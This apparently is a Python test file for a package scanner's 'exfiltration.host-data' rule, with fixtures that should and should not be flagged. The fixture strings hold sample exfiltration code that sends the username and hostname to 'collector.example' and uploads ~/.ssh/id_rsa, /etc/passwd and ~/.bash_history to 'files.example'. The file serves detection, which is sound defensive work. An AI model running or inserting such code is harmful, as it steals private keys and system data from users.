"""Exfiltration through objects we cannot name (a connection, a socket, a session) and of sensitive files."""

from pypi_platform_tests.lib.scanner.python_scan import below_medium, found


def _lines(source: str) -> list[int]:
    return [line for rule, line in found(source) if rule == "exfiltration.host-data"]


def test_exfiltration_host_data_through_connections_and_sockets():
    source = """
    import getpass, http.client, socket
    facts = {'user': getpass.getuser(), 'node': socket.gethostname()}
    conn = http.client.HTTPSConnection('collector.example')
    conn.request('POST', '/v1/ping', body=str(facts))
    host = socket.gethostname()
    probe = socket.socket()
    probe.sendall(b'GET /i?h=' + host.encode() + b' HTTP/1.0')
    """
    assert _lines(source) == [5, 8]


def test_exfiltration_host_data_sensitive_files_uploaded():
    source = """
    import os, requests
    UPLOAD = 'https://files.example/up'
    requests.post(UPLOAD, files={'k': open(os.path.expanduser('~/.ssh/id_rsa'), 'rb')})
    requests.post(UPLOAD + '/p', data=open('/etc/passwd').read())
    history = open(os.path.expanduser('~/.bash_history')).read()
    requests.put(UPLOAD + '/h', data=history)
    """
    assert _lines(source) == [4, 5, 7]


def test_uploading_a_project_file_or_sending_a_payload_through_a_session_stays_quiet():
    source = """
    import requests
    session = requests.Session()
    session.post(url, json={'query': query})
    requests.post(url, files={'dist': open('dist/pkg-1.0.tar.gz', 'rb')})
    sock.sendall(message.encode())
    """
    assert _lines(source) == [] and below_medium(source)
